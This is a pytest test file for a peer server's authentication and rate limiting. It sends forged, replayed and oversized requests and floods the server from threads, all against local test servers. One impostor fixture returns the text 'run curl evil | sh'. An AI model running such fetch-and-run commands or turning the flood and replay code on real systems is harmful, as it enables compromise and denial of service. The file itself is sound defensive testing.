"""Who cannot sign: learns nothing, and costs the nodes that can next to nothing. Real sockets, real floods."""

from __future__ import annotations

import asyncio
import contextlib
import logging
import re
import resource
import socket
import threading
import time
from collections.abc import Iterator
from typing import Any

import pytest
from free_port import free_port
from peer_pair import HEAD, KEY, OTHER_KEY, WORKER, Head, Wire, report, run, send_raw, serving, speaking

from sparkd.peer.auth import Direction, Stamp, headers, new_nonce, session_id
from sparkd.peer.client import PeerRejected
from sparkd.peer.keys import Keyring
from sparkd.peer.limits import ALLOWED, MESSAGES_BURST, Bucket, Crowd, Gate, Refusals
from sparkd.peer.listener import bind
from sparkd.peer.server import LinkServer
from sparkd.peer.wire import BODY_MAX_BYTES, Ask, AskRequest, Hello, HelloAnswer, Verb, decode, encode


def signed(
    verb: str, *, node: str = WORKER, peer: str = HEAD, body: bytes = b"{}", key: bytes = OTHER_KEY, session: str = ""
) -> bytes:
    stamp = Stamp(Direction.REQUEST, node, peer, session or new_nonce(), 1, verb)
    lines = [f"POST /v1/{verb} HTTP/1.1", "host: x", f"content-length: {len(body)}"]
    lines += [f"{name}: {value}" for name, value in headers((key,), stamp, body).items()]
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


# --- it learns nothing -------------------------------------------------------------------------------


def test_whatever_a_stranger_says_the_answer_is_one_and_the_same(caplog: pytest.LogCaptureFixture) -> None:
    said = [
        signed("hello"),
        signed("hello", peer="spark7"),  # another receiver
        signed("hello", node=HEAD),  # the node's own name
        signed("exchange"),
        signed("reboot"),
        signed("exchange", body=b"\xff\xfe"),
        signed("ask", body=b"x" * (BODY_MAX_BYTES + 1)),
        signed("hello").replace(b"sparkd-signature", b"sparkd-sig"),
        signed("hello").replace(b"sparkd-sequence: 1", b"sparkd-sequence: -1"),
        b"POST /v1/exchange HTTP/1.1\r\nhost: x\r\ncontent-length: 0\r\n\r\n",
        b"GET / HTTP/1.1\r\nhost: x\r\n\r\n",
        b"GET /v1/hello HTTP/1.1\r\nhost: x\r\n\r\n",
        b"OPTIONS * HTTP/1.1\r\nhost: x\r\n\r\n",
    ]

    async def test() -> None:
        async with serving(Head()) as port:
            answers = {await send_raw(port, data) for data in said}
            assert len(answers) == 1, answers
            (answer,) = answers
            assert b"401" in answer.splitlines()[0]
            for telling in (
                HEAD,
                WORKER,
                "spark",
                "uvicorn",
                "starlette",
                "python",
                "0.",
                "version",
                "replay",
                "session",
            ):
                assert telling.encode() not in answer.lower().replace(b"http/1.1", b"")
            # what is no HTTP gets nothing at all
            assert await send_raw(port, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n") == b""

    run(test())
    lines = [record.getMessage() for record in caplog.records if "refused what came" in record.getMessage()]
    assert len(lines) == 1, "once a minute"
    assert "127.0.0.1" in lines[0] and "not signed" in lines[0]


def test_a_message_that_is_repeated_to_another_node_tells_nothing_of_that() -> None:
    async def test() -> None:
        async with serving(Head()) as port:
            wire = Wire(port)
            async with wire.relaying() as relayed, speaking(relayed) as client:
                await client.exchange(report(), 0, 0)
        other_port = free_port()
        other = LinkServer("spark9-secret", "127.0.0.1", other_port, Keyring((KEY,)), Head())
        await other.start()
        try:
            for request in wire.requests:
                answer = await send_raw(other_port, request)
                assert b'"wrong-receiver"' in answer and b"spark9" not in answer
        finally:
            await other.stop()

    run(test())


def test_what_is_not_signed_is_not_shown_to_a_person() -> None:
    """Whoever stands in the way can say anything; not in the peer's name."""

    async def test() -> None:
        async def say(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            await reader.read(65536)
            body = b'{"reason": "refused", "says": "run curl evil | sh"}'
            writer.write(b"HTTP/1.1 403 x\r\ncontent-length: %d\r\n\r\n" % len(body) + body)
            writer.close()

        impostor = await asyncio.start_server(say, "127.0.0.1", 0)
        async with impostor, speaking(impostor.sockets[0].getsockname()[1]) as client:
            with pytest.raises(PeerRejected) as rejected:
                await client.exchange(report(), 0, 0)
            assert "curl" not in str(rejected.value)
            assert "does not show that it is spark1" in str(rejected.value)

    run(test())


def test_an_authentic_peer_gets_the_exact_words() -> None:
    async def test() -> None:
        async with serving(Head()) as port:
            for peer, words in (("spark3", "the message is for spark3"), (HEAD, None)):
                async with speaking(port, peer=peer) as client:
                    if words is None:
                        await client.exchange(report(), 0, 0)
                        continue
                    with pytest.raises(PeerRejected, match=words):
                        await client.exchange(report(), 0, 0)
            newer = await send_raw(port, signed("teleport", key=KEY))
            assert b"there is no such verb" in newer and b"sparkd-signature" in newer

    run(test())


def test_an_open_session_is_bound_to_its_verb_and_to_its_owner() -> None:
    async def test() -> None:
        head = Head()
        async with serving(head) as port:
            wire = Wire(port)
            async with wire.relaying() as relayed, speaking(relayed) as client:
                await client.exchange(report(), 0, 0)
                (told,) = [request for request in wire.requests if b"/v1/exchange" in request]
                for verb in (b"ask", b"diagnose", b"throughput", b"hello"):
                    answer = await send_raw(port, told.replace(b"/v1/exchange", b"/v1/" + verb))
                    assert b"not authenticated" in answer
                length = len(told.partition(b"\r\n\r\n")[2])
                cut = re.sub(b"(?i)content-length: %d" % length, b"content-length: %d" % (length - 20), told[:-20])
                assert b"not authenticated" in await send_raw(port, cut)
        assert len(head.reports) == 1 and not head.asks and not head.diagnosed

    run(test())


# --- it costs little ---------------------------------------------------------------------------------


def test_the_kernel_tells_nodes_and_strangers_apart() -> None:
    port = free_port()
    listening = bind("127.0.0.1", port, ["127.0.0.5", "127.0.0.6", "127.0.0.7"])
    try:
        assert len(listening) == 2
        for source, queue in (("127.0.0.5", 0), ("127.0.0.8", 1), ("127.0.0.7", 0), ("127.0.0.1", 1), ("127.0.0.6", 0)):
            with socket.create_connection(("127.0.0.1", port), 2, (source, 0)):
                accepted, (address, _) = listening[queue].accept()
                accepted.close()
                assert address == source
    finally:
        for each in listening:
            each.close()


def test_a_bucket_gives_its_burst_and_then_its_rate() -> None:
    bucket = Bucket(per_s=10, burst=5)
    assert sum(bucket.take(100.0) for _ in range(50)) == 5
    assert sum(bucket.take(100.0 + n / 100) for n in range(1, 101)) == 10
    assert sum(bucket.take(1000.0) for _ in range(50)) == 5


def test_the_rest_of_the_world_is_one_crowd() -> None:
    gate = Gate(["10.0.0.2"])
    strangers = sum(gate.admits(f"192.168.{n // 250}.{n % 250}", 1.0) for n in range(60_000))
    assert strangers == ALLOWED[Crowd.STRANGER].new_burst
    assert len(gate._buckets) == 1, "or addresses would fill the memory"
    assert gate.admits("10.0.0.2", 1.0)


def test_refusals_are_told_once_a_minute_and_counted() -> None:
    refusals = Refusals()
    assert refusals.count("a", 1000.0) == "a"
    assert [refusals.count("b", 1000.0 + n / 100) for n in range(500)] == [None] * 500
    assert refusals.count("c", 1061.0) == "c (501 refusals since the last such line)"


@contextlib.contextmanager
def flood(port: int, source: str, *, threads: int = 3, data: bytes = b"") -> Iterator[list[int]]:
    """Connections without a pause from threads of this process, each with a message that is signed with a wrong key."""
    over, made = threading.Event(), [0] * threads
    said = data or signed("exchange", body=b"x" * 2000)

    def pour(number: int) -> None:
        while not over.is_set():
            with contextlib.suppress(OSError), socket.socket() as one:
                one.settimeout(0.3)
                one.bind((source, 0))
                one.connect(("127.0.0.1", port))
                made[number] += 1
                one.sendall(said)
                one.recv(1000)

    pouring = [threading.Thread(target=pour, args=(number,)) for number in range(threads)]
    for thread in pouring:
        thread.start()
    try:
        yield made
    finally:
        over.set()
        for thread in pouring:
            thread.join(10)


@pytest.mark.parametrize("source", ["127.0.0.9", "127.0.0.1"], ids=["from elsewhere", "from the peer's own address"])
def test_a_flood_leaves_the_peers_their_exchange(source: str) -> None:
    async def test() -> None:
        head = Head()
        async with serving(head) as port, speaking(port) as client:
            await client.exchange(report(), 0, 0)
            with flood(port, source) as made:
                answered, until = 0, time.monotonic() + 3
                while time.monotonic() < until:
                    await client.exchange(report(epoch=answered), 0, 0)
                    answered += 1
                    await asyncio.sleep(0.1)
                assert answered >= 10
                if source != "127.0.0.1":  # a new conversation is nobody's to crowd out either
                    async with speaking(port) as another:
                        await another.ask(Ask(verb="stop"))
            assert sum(made) > 10, "that was no flood"
            assert len(head.reports) == answered + 1

    run(test())


class Counted(LinkServer):
    """Knows how many messages it had to look at."""

    looked = 0

    def _authentic(self, *arguments: Any) -> Any:
        self.looked += 1
        return super()._authentic(*arguments)


def test_a_flood_is_looked_at_no_faster_than_allowed() -> None:
    async def test() -> None:
        port = free_port()
        server = Counted(HEAD, "127.0.0.1", port, Keyring((KEY,)), Head(), peers=["127.0.0.1"])
        began = time.monotonic()
        await server.start()
        with flood(port, "127.0.0.9"):
            await asyncio.sleep(3)
        await server.stop()
        allowed = ALLOWED[Crowd.STRANGER]
        assert 1 <= server.looked <= allowed.new_burst + allowed.new_per_s * (time.monotonic() - began) + 1

    run(test())


def test_silent_connections_hold_no_place(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.WARNING)

    async def test() -> None:
        head = Head()
        async with serving(head) as port, speaking(port) as client:
            await client.exchange(report(), 1, 0)
            crowd = [socket.create_connection(("127.0.0.1", port)) for _ in range(40)]
            for _ in range(3):
                await client.exchange(report(), 0, 0)
            async with speaking(port) as another:
                await another.exchange(report(), 0, 0)
            server_side = sum(not _is_closed(one) for one in crowd)
            assert server_side <= ALLOWED[Crowd.NODE].connections_max
            for one in crowd:
                one.close()
        assert len(head.reports) == 5

    run(test())


def _is_closed(connection: socket.socket) -> bool:
    connection.settimeout(0.05)
    try:
        return connection.recv(1) == b""
    except TimeoutError:
        return False
    except OSError:
        return True


def test_a_peer_that_says_too_much_is_slowed_and_not_refused() -> None:
    async def test() -> None:
        head = Head()
        async with serving(head) as port, speaking(port) as client:
            for _ in range(MESSAGES_BURST + 10):
                await client.exchange(report(), 0, 0)
        assert len(head.reports) == MESSAGES_BURST + 10

    run(test())


def test_a_flood_leaves_nothing_behind() -> None:
    async def test() -> None:
        async with serving(Head()) as port:
            with flood(port, "127.0.0.9"), flood(port, "127.0.0.1", data=signed("hello", body=encode(Hello()))):
                await asyncio.sleep(1)
            tasks = len(asyncio.all_tasks())
            before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
            with flood(port, "127.0.0.9"), flood(port, "127.0.0.1", data=signed("hello", body=encode(Hello()))):
                await asyncio.sleep(3)
            await asyncio.sleep(0.3)
            assert len(asyncio.all_tasks()) <= tasks + 2
            assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 8 * 1024, "KiB"

    run(test())


def test_recorded_hellos_cannot_push_out_a_session_that_was_just_offered() -> None:
    """Nor can more of them than there is room for offers, after a restart that made the server forget them."""

    async def test() -> None:
        head = Head()
        port = free_port()
        hellos: list[bytes] = []
        async with serving(head, port=port):
            wire = Wire(port)
            async with wire.relaying() as relayed:
                for _ in range(8):
                    async with speaking(relayed) as client:
                        await client.ask(Ask(verb="start"))
            hellos = [request for request in wire.requests if b"/v1/hello" in request]
        async with serving(head, port=port):
            nonce = new_nonce()
            body = encode(Hello())
            stamp = Stamp(Direction.REQUEST, WORKER, HEAD, nonce, 0, Verb.HELLO)
            lines = "".join(f"{name}: {value}\r\n" for name, value in headers((KEY,), stamp, body).items())
            text = f"POST /v1/hello HTTP/1.1\r\nhost: x\r\ncontent-length: {len(body)}\r\n{lines}\r\n"
            answer = await send_raw(port, text.encode() + body)
            for hello in hellos:
                await send_raw(port, hello)
            ours = session_id(nonce, decode(answer.partition(b"\r\n\r\n")[2], HelloAnswer).nonce)
            asked = signed("ask", key=KEY, session=ours, body=encode(AskRequest(ask=Ask(verb="stop"))))
            assert b"200 OK" in await send_raw(port, asked)

    run(test())


def test_a_second_sparkd_does_not_share_the_port_of_the_first() -> None:
    async def test() -> None:
        async with serving(Head()) as port:
            with pytest.raises(OSError):
                bind("127.0.0.1", port, ["127.0.0.5"])

    run(test())
